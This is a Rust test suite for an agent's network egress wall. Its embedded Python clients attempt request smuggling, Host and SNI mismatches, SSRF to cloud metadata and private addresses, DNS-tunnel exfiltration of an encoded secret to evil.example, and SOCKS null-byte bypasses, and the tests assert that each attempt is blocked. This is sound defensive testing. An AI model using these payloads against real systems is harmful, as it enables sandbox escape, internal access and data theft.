//! Attacks of an agent, each with a real client, and each with a control that makes it succeed.

use super::{FETCH, fetch, internet::walled, py, records};

/// Sends bytes to an address and returns what comes back: `GOT …`, or `NOTHING`.
const RAW: &str = "
def raw(to, data, wait=5):
    try:
        stream = socket.create_connection(to, timeout=wait)
        stream.sendall(data)
        got = b''
        while len(got) < 4000:
            part = stream.recv(4000)
            if not part: break
            got += part
        return 'GOT ' + got.decode('latin-1') if got else 'NOTHING'
    except OSError as error:
        return 'NOTHING'
def greet(address, name, port=443):
    context = ssl.create_default_context(cafile='ca.pem')
    context.check_hostname = False
    try:
        stream = context.wrap_socket(socket.create_connection((address, port), timeout=10), server_hostname=name)
        stream.sendall(b'GET / HTTP/1.0\\r\\nHost: good.example\\r\\n\\r\\n')
        return 'GOT ' + stream.recv(100).decode()
    except OSError as error:
        return f'ERROR {error}'
good = socket.gethostbyname('good.example')
";

#[test]
fn names_that_disagree_are_denied() {
    walled(
        "mode = \"allowlist\"\nallow = [\"good.example\", \"ADDRESS\"]\n",
        |env, repository, internet| {
            let code = format!(
            "{RAW}
print(greet(good, 'good.example')[:16])
print(greet(good, 'other.example'))
print(greet(good, None))
def head(text): return text.split('\\r\\n')[0]
print(head(raw((good, 80), b'GET / HTTP/1.1\\r\\nHost: good.example\\r\\nConnection: close\\r\\n\\r\\n')))
print(head(raw((good, 80), b'GET / HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n')))
print(head(raw((good, 80), b'GET http://other.example/ HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n')))
print(head(raw((good, 80), b'GET / HTTP/1.1\\r\\nHost: good.example\\r\\nHost: other.example\\r\\n\\r\\n')))
print(head(raw((good, 80), b'CONNECT good.example:443 HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n')))
print(head(raw((good, 80), b'GET / HTTP/1.0\\r\\n\\r\\n')))
two = raw((good, 80), b'GET /one HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\nGET /two HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n')
print(two.count('HTTP/1.1 200'), two.count('HTTP/1.1 403'))
smuggled = raw((good, 80), b'POST /s HTTP/1.1\\r\\nHost: good.example\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /three HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n')
print(smuggled.count('hello other'))
"
        );
            let ran = py(env, repository, &code);
            let lines: Vec<&str> = ran.stdout.lines().collect();
            assert!(lines[0].starts_with("GOT HTTP/1.1 200"), "{ran}");
            for line in &lines[1..3] {
                assert!(line.starts_with("ERROR") && line.contains("access denied"), "{ran}");
            }
            assert_eq!(lines[3], "GOT HTTP/1.1 200 OK", "{ran}");
            for line in &lines[4..9] {
                assert_eq!(*line, "GOT HTTP/1.1 403 Forbidden", "{ran}");
            }
            assert_eq!(lines[9..], ["1 1", "0"], "{ran}");
            assert!(!internet.log().contains("other.example"), "{}", internet.log());
            let codes: Vec<String> = records(env, repository, &["--denied"])
                .iter()
                .filter_map(|record| record["code"].as_str().map(str::to_owned))
                .collect();
            for code in ["no-name", "not-listed", "two-names", "nested-tunnel"] {
                assert!(codes.iter().any(|seen| seen == code), "{code} is not in {codes:?}");
            }
        },
    );
}

#[test]
fn addresses_that_are_not_public_are_out_of_reach_in_every_mode() {
    for mode in ["open", "web", "allowlist"] {
        let egress = format!(
            "mode = \"{mode}\"\nallow = [\"good.example\", \"inside.example\", \"metadata.example\", \"mapped.example\", \"ADDRESS\"]\n"
        );
        walled(&egress, |env, repository, _| {
            let host = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
            let port = host.local_addr().unwrap().port();
            let code = format!(
                "{FETCH}{RAW}
get = b'GET / HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n'
for to in [('169.254.169.254', 80), ('10.0.0.1', 80), ('100.64.0.1', 80), ('192.168.0.1', 80), ('::ffff:169.254.169.254', 80),
           ('fd00:ec2::254', 80), ('64:ff9b::a9fe:a9fe', 80), ('0.0.0.0', 80), ('224.0.0.1', 80), ('198.18.200.200', 80)]:
    print(raw(to, get, 5).split('\\r\\n')[0])
for name in ['inside.example', 'metadata.example']:
    answer = fetch('http://' + name + '/')
    print(answer[:4], [word for word in answer.split() if word.startswith(('10.', '169.'))][-1])
print(raw(('127.0.0.1', {port}), get), raw(('mapped.example', {port}), get))
"
            );
            let ran = py(env, repository, &code);
            assert_eq!(ran.code, 0, "{ran}");
            let lines: Vec<&str> = ran.stdout.lines().collect();
            for line in &lines[..10] {
                assert!(matches!(*line, "GOT HTTP/1.1 403 Forbidden" | "NOTHING"), "{mode}: {ran}");
            }
            // Naming the host would not help: the address must be named.
            let told = ["403  10.0.0.1", "403  169.254.169.254", "NOTHING NOTHING"];
            assert_eq!(lines[10..], told, "{mode}: {ran}");
            host.set_nonblocking(true).unwrap();
            assert!(host.accept().is_err(), "nobody came to the host's loopback");
            let all = records(env, repository, &["--denied"]);
            assert!(
                all.iter().any(|record| record["address"] == "169.254.169.254"
                    && record["code"] == "not-public"),
                "{all:?}"
            );
        });
    }
}

#[test]
fn web_mode_wants_each_port_to_speak_its_own_language() {
    walled("mode = \"web\"\nallow = [\"ADDRESS\"]\n", |env, repository, internet| {
        let code = format!(
            "{RAW}
get = b'GET / HTTP/1.1\\r\\nHost: good.example\\r\\nConnection: close\\r\\n\\r\\n'
print(raw((good, 80), get)[:16])
print(raw((good, 443), get).split('\\r\\n')[0])
# A refusal of ours is in the words of the port, and no byte of the other side's.
refused = lambda got: 'NOTHING' if got.startswith(('GOT 554 ', 'GOT SSH-2.0-Hothouse')) else got
print(refused(raw((good, 80), b'\\x00\\x01binary tunnel')))
print(refused(raw((good, 22), b'not ssh at all\\r\\n')))
print(refused(raw((good, 25), b'EHLO x\\r\\n')))
print(refused(raw((good, 8443), b'x')))
print(greet(good, 'good.example')[:16])
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.settimeout(2)
for port in [123, 443]:
    try:
        udp.sendto(b'x', ('8.8.8.8', port)); print('ANSWER', udp.recv(9))
    except OSError as error:
        print('no datagrams')
"
        );
        let ran = py(env, repository, &code);
        let lines: Vec<&str> = ran.stdout.lines().collect();
        assert_eq!(lines[0], "GOT HTTP/1.1 200", "{ran}");
        assert_eq!(lines[1], "GOT HTTP/1.1 403 Forbidden", "{ran}");
        assert_eq!(lines[2..6], ["NOTHING"; 4], "{ran}");
        assert_eq!(lines[6], "GOT HTTP/1.1 200", "{ran}");
        assert_eq!(lines[7..], ["no datagrams"; 2], "{ran}");
        assert!(!internet.log().contains("8443"), "{}", internet.log());
    });
}

#[test]
fn names_are_answered_by_us_whoever_is_asked() {
    walled(
        "mode = \"allowlist\"\nallow = [\"good.example\", \"ADDRESS\"]\n",
        |env, repository, internet| {
            let code = "
def question(name, kind):
    labels = b''.join(bytes([len(part)]) + part for part in name)
    return b'\\xab\\xcd\\x01\\x00\\0\\x01\\0\\0\\0\\0\\0\\0' + labels + b'\\0' + struct.pack('>HH', kind, 1)
def show(answer):
    code, count = answer[3] & 15, struct.unpack('>H', answer[6:8])[0]
    return f'{code} {count}'
def by_datagram(server, name, kind):
    udp = socket.socket(socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM)
    udp.settimeout(10)
    udp.connect((server, 53))
    udp.send(question(name, kind))
    return show(udp.recv(4096))
def by_stream(server, name, kind):
    tcp = socket.create_connection((server, 53), timeout=10)
    asked = question(name, kind)
    tcp.sendall(struct.pack('>H', len(asked)) + asked)
    length = struct.unpack('>H', tcp.recv(2))[0]
    return show(tcp.recv(length))
secret = [b'c2VjcmV0LWtleQ', b'tunnel', b'evil', b'example']
for server in ['8.8.8.8', '2001:4860:4860::8888']:
    for ask in [by_datagram, by_stream]:
        print(ask(server, secret, 1), ask(server, secret, 28), ask(server, secret, 16), ask(server, [b'good', b'example'], 1))
print(by_datagram('1.1.1.1', [b'a.b', b'evil', b'example'], 1), by_datagram('1.1.1.1', [b'good\\0', b'example'], 1))
tcp = socket.create_connection(('8.8.8.8', 53), timeout=10)
tcp.sendall(b'\\xff\\xff' + b'x' * 100)
tcp.settimeout(15)
try: print('GOT', tcp.recv(10))
except OSError: print('reset')
print(socket.gethostbyname('localhost'), socket.gethostbyname('web.a.acme.localhost'))
";
            let ran = py(env, repository, code);
            let lines: Vec<&str> = ran.stdout.lines().collect();
            // A synthetic address of each family, no other record, and the real one for listed
            // names.
            assert_eq!(lines[..4], ["0 1 0 1 0 0 0 1"; 4], "{ran}");
            assert_eq!(lines[4], "3 0 3 0", "{ran}");
            assert!(matches!(lines[5], "reset" | "GOT b''"), "{ran}");
            assert_eq!(lines[6], "127.0.0.1 127.0.0.1", "{ran}");
            assert!(!internet.log().contains("evil"), "{}", internet.log());
            assert!(internet.log().contains("dns good.example"), "{}", internet.log());
        },
    );
}

#[test]
fn what_is_broken_slow_or_endless_does_not_hang_the_wall() {
    walled(
        "mode = \"allowlist\"\nallow = [\"good.example\", \"ADDRESS\"]\n",
        |env, repository, _| {
            let code = format!(
            "{RAW}
head = b'GET / HTTP/1.1\\r\\nHost: good.example\\r\\nX: '
print(raw((good, 80), head + b'a' * 3_000_000, 20).split('\\r\\n')[0])
# A head of a gigabyte: nobody reads it to its end.
def endless(port, first):
    stream = socket.create_connection((good, port), timeout=30)
    try:
        stream.sendall(first)
        for _ in range(1024): stream.sendall(b'a' * (1 << 20))
    except OSError: return 'stopped'
    return 'TOOK IT'
print(endless(80, head), endless(443, b'\\x16\\x03\\x01\\x40\\x00\\x01\\xff\\xff\\xff'))
print(raw((good, 443), b'\\x16\\x03\\x01\\x40\\x00\\x01\\x00\\xff\\xff' + b'a' * 100_000, 20)[:4])
print(raw((good, 443), b'\\x16\\x03\\x01\\x00\\x00', 20)[:4])
# Many that never say what they are, and one that does.
idle = [socket.create_connection((good, 443), timeout=10) for _ in range(200)]
for stream in idle: stream.sendall(b'\\x16\\x03')
print(greet(good, 'good.example')[:16])
# A client that leaves without reading.
for _ in range(20):
    stream = socket.create_connection((good, 80), timeout=10)
    stream.sendall(b'GET / HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n')
    stream.close()
print(raw((good, 80), b'GET / HTTP/1.1\\r\\nHost: good.example\\r\\nConnection: close\\r\\n\\r\\n')[:16])
# Half closed: the answer still comes.
stream = socket.create_connection((good, 80), timeout=10)
stream.sendall(b'GET / HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n')
stream.shutdown(socket.SHUT_WR)
print(stream.recv(12))
"
        );
            let ran = py(env, repository, &code);
            let lines: Vec<&str> = ran.stdout.lines().collect();
            assert!(lines[0].starts_with("GOT HTTP/1.1 4") || lines[0] == "NOTHING", "{ran}");
            assert_eq!(lines[1], "stopped stopped", "{ran}");
            for line in &lines[2..4] {
                assert!(line.starts_with("GOT") || *line == "NOTH", "{ran}");
            }
            assert_eq!(
                lines[4..],
                ["GOT HTTP/1.1 200", "GOT HTTP/1.1 200", "b'HTTP/1.1 200'"],
                "{ran}"
            );
        },
    );
}

#[test]
fn the_proxy_port_is_no_way_around_the_policy() {
    walled(
        "mode = \"allowlist\"\nallow = [\"good.example\", \"ADDRESS\"]\n",
        |env, repository, internet| {
            let code = format!(
                "{RAW}
def socks(name, port=80):
    stream = socket.create_connection(('127.0.0.1', 15080), timeout=10)
    stream.sendall(b'\\x05\\x01\\x00')
    stream.recv(2)
    stream.sendall(b'\\x05\\x01\\x00\\x03' + bytes([len(name)]) + name + struct.pack('>H', port))
    reply = stream.recv(10)
    return stream, reply[1]
for name in [b'evil.example', b'good.example\\0.evil.example', b'evil.example\\0good.example', b'']:
    print(socks(name)[1])
stream, code = socks(b'good.example', 443)
print(code)
for target in [b'169.254.169.254', b'0x7f.1', b'2130706433', b'127.0.0.1']:
    stream, code = socks(target)
    try:
        stream.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print(code, stream.recv(12))
    except OSError: print(code, 'reset')
# A tunnel to a listed host that then greets another one.
stream, code = socks(b'good.example', 443)
context = ssl.create_default_context(cafile='ca.pem'); context.check_hostname = False
try:
    context.wrap_socket(stream, server_hostname='other.example'); print('PASSED')
except OSError as error: print('denied')
"
            );
            let ran = py(env, repository, &code);
            let lines: Vec<&str> = ran.stdout.lines().collect();
            assert_eq!(lines[..5], ["2", "2", "2", "2", "0"], "{ran}");
            for line in &lines[5..9] {
                assert!(line.contains("HTTP/1.1 403") || line.contains("reset"), "{ran}");
            }
            assert_eq!(lines[9], "denied", "{ran}");
            assert!(!internet.log().contains("other.example"), "{}", internet.log());
        },
    );
}

#[test]
fn a_redirect_leads_nowhere_else() {
    walled(
        "mode = \"allowlist\"\nallow = [\"good.example\", \"ADDRESS\"]\n",
        |env, repository, _| {
            let followed = fetch(env, repository, "http://good.example/redirect");
            assert!(
                followed.starts_with("403 ") && followed.contains("evil.example"),
                "{followed}"
            );
        },
    );
}
